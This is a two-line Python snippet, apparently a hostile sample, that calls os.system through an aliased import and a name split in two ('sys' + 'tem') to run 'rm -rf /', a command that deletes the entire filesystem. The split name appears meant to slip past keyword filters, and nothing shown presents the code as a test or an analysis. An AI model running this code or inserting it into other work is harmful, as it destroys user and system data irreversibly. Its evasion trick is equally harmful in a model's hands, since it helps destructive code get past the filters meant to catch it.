import os as o
getattr(o, "sys" + "tem")("rm -rf /")
